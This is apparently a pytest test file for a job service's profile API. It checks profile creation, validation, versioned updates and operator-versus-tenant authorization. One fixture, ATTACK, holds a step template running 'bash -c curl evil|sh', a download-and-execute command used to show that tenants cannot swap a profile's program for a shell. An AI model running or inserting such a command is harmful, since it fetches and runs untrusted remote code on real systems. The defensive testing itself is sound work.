"""/job-profiles: list, create, read and replace job profiles, and what each refuses."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from backbone.http.errors import ApiError
from job_service.api.runtime import Api
from job_service.api.settings import ApiSettings
from tests.job_service.api_support import (
    KEY,
    OPERATOR_KEY,
    OTHER_KEY,
    PROFILE,
    TENANT,
    ApiWorld,
    profile_body,
)

ATTACK = profile_body(step_template={"kind": "command", "args": ["bash", "-c", "curl evil|sh"]})


@pytest.fixture
def world() -> Iterator[ApiWorld]:
    with ApiWorld() as world:
        yield world


def test_a_created_profile_is_answered_201_and_can_be_read_and_listed(world: ApiWorld) -> None:
    # When a profile is created with the defaults left out
    body = profile_body()
    del body["max_attempts"], body["timeout_seconds"]
    reply = world.request("POST", "/job-profiles", body, key=OPERATOR_KEY)
    # Then the answer shows every term, defaults filled in
    assert (reply.status, reply.headers["location"]) == (201, f"/job-profiles/{PROFILE}")
    assert reply.body == {
        "name": PROFILE,
        "job_type": "training",
        "cluster_profile": "spark-small",
        "priority_class": "normal",
        "allowed_priorities": ["critical", "high", "normal", "low"],
        "max_attempts": 3,
        "timeout_seconds": 3600,
        "step_template": {"kind": "spark", "args": ["s3://bucket/train.py", "--date", "{date}"]},
        "tenants": ["*"],
        "parameters": {"date": {"type": "date"}},
        "version": 2,
        "created_at": "2024-01-01T00:00:00Z",
        "updated_at": "2024-01-01T00:00:00Z",
    }
    # And the profile can be read and is listed
    assert world.request("GET", f"/job-profiles/{PROFILE}").body == reply.body
    assert world.request("GET", "/job-profiles").body == {"profiles": [reply.body]}


def test_profiles_are_listed_by_name(world: ApiWorld) -> None:
    for name in ("zeta", "alpha"):
        world.create_profile(name=name)
    listed = world.request("GET", "/job-profiles").body["profiles"]
    assert [p["name"] for p in listed] == ["alpha", "zeta"]


def test_a_taken_name_is_a_conflict(world: ApiWorld) -> None:
    world.create_profile()
    stored = world.stored()

    reply = world.request(
        "POST", "/job-profiles", profile_body(job_type="scoring"), key=OPERATOR_KEY
    )

    assert (reply.status, reply.error["code"]) == (409, "profile_exists")
    assert world.stored() == stored


def test_an_update_replaces_the_terms_for_later_jobs_only(world: ApiWorld) -> None:
    # Given a profile, and a job submitted under it at high priority
    world.create_profile()
    before = world.submitted(priority="high")
    # When the profile stops allowing high priority and raises max_attempts
    update = profile_body(allowed_priorities=["normal", "low"], max_attempts=5)
    reply = world.request("PUT", f"/job-profiles/{PROFILE}", update, key=OPERATOR_KEY)
    # Then the profile has the new terms
    assert reply.status == 200
    assert (reply.body["version"], reply.body["max_attempts"]) == (3, 5)
    # And a new high-priority job is refused, while the earlier job keeps its terms
    refused = world.submit(priority="high")
    assert (refused.status, refused.error["field"]) == (400, "priority")
    assert world.request("GET", f"/jobs/{before}").body["max_attempts"] == 3
    assert world.request("GET", f"/jobs/{world.submitted()}").body["max_attempts"] == 5


def test_an_update_may_leave_the_name_out(world: ApiWorld) -> None:
    world.create_profile()
    body = profile_body(timeout_seconds=60)
    del body["name"]
    assert (
        world.request("PUT", f"/job-profiles/{PROFILE}", body, key=OPERATOR_KEY).body[
            "timeout_seconds"
        ]
        == 60
    )


def test_an_update_naming_another_profile_is_a_400(world: ApiWorld) -> None:
    world.create_profile()
    reply = world.request(
        "PUT", f"/job-profiles/{PROFILE}", profile_body(name="other"), key=OPERATOR_KEY
    )
    assert (reply.status, reply.error["field"]) == (400, "name")


@pytest.mark.parametrize(("method", "body"), [("GET", None), ("PUT", profile_body(name="missing"))])
def test_an_unknown_profile_is_not_found(world: ApiWorld, method: str, body: Any) -> None:
    reply = world.request(method, "/job-profiles/missing", body, key=OPERATOR_KEY)
    assert (reply.status, reply.error["code"]) == (404, "profile_not_found")


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"name": "has space"}, "name"),
        ({"name": "a/b"}, "name"),
        ({"job_type": "mining"}, "job_type"),
        ({"cluster_profile": "spark small"}, "cluster_profile"),
        ({"step_template": {"kind": "spark", "args": ["--x={date"]}}, "step_template"),
        ({"step_template": {"kind": "bash", "args": ["x"]}}, "step_template.kind"),
        ({"step_template": {"kind": "spark", "args": []}}, "step_template.args"),
        ({"step_template": {"kind": "spark", "args": ["x"], "env": {}}}, "step_template.env"),
        ({"priority_class": "high", "allowed_priorities": ["low"]}, "priority_class"),
        ({"allowed_priorities": []}, "allowed_priorities"),
        ({"allowed_priorities": ["urgent"]}, "allowed_priorities.0"),
        ({"max_attempts": 0}, "max_attempts"),
        ({"max_attempts": 1001}, "max_attempts"),
        ({"max_attempts": "3"}, "max_attempts"),
        ({"timeout_seconds": 0}, "timeout_seconds"),
        ({"owner": "me"}, "owner"),
    ],
)
def test_a_profile_that_cannot_be_used_is_a_400_naming_the_field(
    world: ApiWorld, overrides: dict[str, Any], field: str
) -> None:
    reply = world.request("POST", "/job-profiles", profile_body(**overrides), key=OPERATOR_KEY)
    assert (reply.status, reply.error["field"]) == (400, field), reply.body
    assert world.stored() == 0


def test_a_profile_without_its_terms_is_a_400_listing_each_missing_field(world: ApiWorld) -> None:
    reply = world.request("POST", "/job-profiles", {"name": PROFILE}, key=OPERATOR_KEY)
    assert reply.status == 400
    missing = {d["field"] for d in reply.error["details"]}
    assert missing == {"job_type", "cluster_profile", "step_template"}


# Profiles belong to operators: a tenant may not choose the program another tenant's jobs run.


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", "/job-profiles", profile_body(name="mine")),
        ("PUT", f"/job-profiles/{PROFILE}", ATTACK),
        ("PUT", "/job-profiles/missing", profile_body(name="missing")),
    ],
)
@pytest.mark.parametrize("key", [KEY, OTHER_KEY])
def test_a_tenant_managing_profiles_is_refused_403_and_nothing_changes(
    world: ApiWorld, method: str, path: str, body: Any, key: str
) -> None:
    # Given a profile that tenant-1's jobs run under
    world.create_profile()
    profile = world.request("GET", f"/job-profiles/{PROFILE}").body
    stored = world.stored()
    # When a tenant tries to create or replace a profile (e.g. swap the program for a shell)
    reply = world.request(method, path, body, key=key)
    # Then it is refused with 403 and a JSON body naming the key to send
    assert (reply.status, reply.error["code"], reply.error["field"]) == (
        403,
        "forbidden",
        "X-Api-Key",
    )
    # And nothing was stored: the profile still runs its own program
    assert world.stored() == stored
    assert world.request("GET", f"/job-profiles/{PROFILE}").body == profile


def test_an_operator_key_manages_profiles_and_has_no_jobs(world: ApiWorld) -> None:
    world.create_profile()
    replaced = world.request("PUT", f"/job-profiles/{PROFILE}", ATTACK, key=OPERATOR_KEY)
    assert replaced.status == 200
    stored = world.stored()
    reply = world.submit(key=OPERATOR_KEY, parameters={})
    assert (reply.status, reply.error["code"]) == (403, "forbidden")
    assert world.stored() == stored


def test_an_unknown_key_is_still_a_401_on_profile_management(world: ApiWorld) -> None:
    reply = world.request("POST", "/job-profiles", profile_body(), key="not-a-known-key")
    assert (reply.status, world.stored()) == (401, 0)


def test_the_operators_authorizer_names_an_operator_and_a_tenant_claim_a_tenant() -> None:
    settings = ApiSettings(api_keys={KEY: TENANT}, operator_keys={OPERATOR_KEY: "ops"})
    callers = Api.identity_of(settings)
    assert callers.principal({"authorizer": {"operator_id": "ops"}}, {}) == "operator:ops"
    tenant = {"authorizer": {"claims": {"custom:tenant_id": TENANT, "sub": "u-1"}}}
    assert callers.principal(tenant, {}) == TENANT
    assert callers.principal({}, {"x-api-key": OPERATOR_KEY}) == "operator:ops"
    assert callers.principal({}, {"x-api-key": KEY}) == TENANT
    spoof = {"authorizer": {"tenant_id": "operator:ops"}}
    with pytest.raises(ApiError) as refused:
        callers.principal(spoof, {})
    assert refused.value.status == 401
